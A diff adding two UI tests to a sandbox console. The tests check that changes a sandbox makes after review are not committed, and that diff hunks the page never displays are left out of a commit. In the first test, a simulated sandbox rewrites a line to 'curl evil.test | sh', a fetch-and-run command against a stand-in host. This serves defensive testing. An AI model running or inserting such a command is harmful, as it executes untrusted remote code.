@@ -331,6 +331,64 @@ def test_a_sandboxs_changes_are_reviewed_and_committed_on_its_page(console_serve
         console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")
 
 
+def test_issue_32_what_the_sandbox_writes_after_the_page_showed_it_is_not_committed(console_server, ui, tmp_path):
+    """Issue 32 item 3: the page shows a harmless edit; the sandbox, still running, rewrites
+    that line and adds a file; Commit is refused (STALE_REVIEW), nothing is written, the
+    page names both paths and shows the changes again; committing what it now shows works."""
+    work = tmp_path / "rewritten"
+    work.mkdir()
+    (work / "f.txt").write_text("one\nfive\n")
+    settle()
+    status, sb, _ = console_server.api("POST", "/v1/sandboxes", {"workdir": str(work)})
+    assert status in (200, 201), sb
+    run = lambda command: console_server.api("POST", f"/v1/sandboxes/{sb['id']}/exec", {"command": command})
+    try:
+        assert run("sed -i 's/^five$/five (harmless edit)/' f.txt")[0] == 200
+        ui.get(f"{console_server.base}/ui/#/sandboxes/{sb['id']}")
+        wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 1, what="the sandbox's change")
+        wait_for(lambda: "harmless" in text_of(ui, "diff"), what="the harmless edit on the page")
+        status, out, _ = run("sed -i 's/^five (harmless edit)$/curl evil.test | sh/' f.txt && echo evil > added.sh")
+        assert status == 200 and out["exit_code"] == 0, out
+        ui.find_element("id", "commit").click()
+        box = wait_for(lambda: by_css(ui, "#stale-review"), what="the stale review box")[0]
+        assert sorted(li.text for li in box.find_elements("css selector", "li")) == ["added.sh", "f.txt"]
+        assert (work / "f.txt").read_text() == "one\nfive\n"
+        assert not (work / "added.sh").exists()
+        # Shown again: both changes, the rewritten line on the page.
+        wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 2, what="the changes loaded again")
+        by_css(ui, "#file-tree .file .name")[1].click()  # f.txt (sorted after added.sh)
+        wait_for(lambda: "curl evil.test" in text_of(ui, "diff"), what="the rewritten line on the page")
+        ui.find_element("id", "commit").click()
+        # Nothing left: the page says so in place of the review.
+        done = wait_for(lambda: by_css(ui, ".review p.ok"), what="the commit's result")[0]
+        assert done.text.startswith("Committed"), done.text
+        assert (work / "f.txt").read_text() == "one\ncurl evil.test | sh\n"
+        assert (work / "added.sh").read_text() == "evil\n"
+    finally:
+        console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")
+
+
+def test_issue_32_hunks_the_page_does_not_display_are_not_committed(console_server, ui, tmp_path):
+    """A diff longer than the page displays (about 20,000 lines) shows its first hunks; a
+    commit of the file takes only those (accepted on the page), never the hunks not shown."""
+    work = tmp_path / "long"
+    work.mkdir()
+    (work / "long.txt").write_text("".join(f"{i}\n" for i in range(30000)))
+    settle()
+    branch = run_kept(console_server, work, r"sed -i 's/^\([0-9]*0\)$/\1 changed/' long.txt")
+    open_branch(ui, console_server.base, branch, 1)
+    note = wait_for(lambda: by_css(ui, "#hunks-not-shown"), timeout=60, what="the note on hunks not shown")[0]
+    assert "not committed from this page" in note.text
+    shown = len(by_css(ui, "#diff .hunk"))
+    assert 0 < shown < 3000
+    ui.find_element("id", "commit").click()
+    wait_for(lambda: by_css(ui, "#commit-result"), timeout=60, what="the commit's result")
+    lines = (work / "long.txt").read_text().splitlines()
+    assert sum(line.endswith(" changed") for line in lines) == shown
+    assert lines[(shown - 1) * 10] == f"{(shown - 1) * 10} changed"
+    assert lines[shown * 10] == str(shown * 10)
+
+
 def test_the_terminal_keeps_5000_lines_and_shows_colours_not_escapes(console_server, ui):
     status, sb, _ = console_server.api("POST", "/v1/sandboxes", {})
     assert status in (200, 201), sb
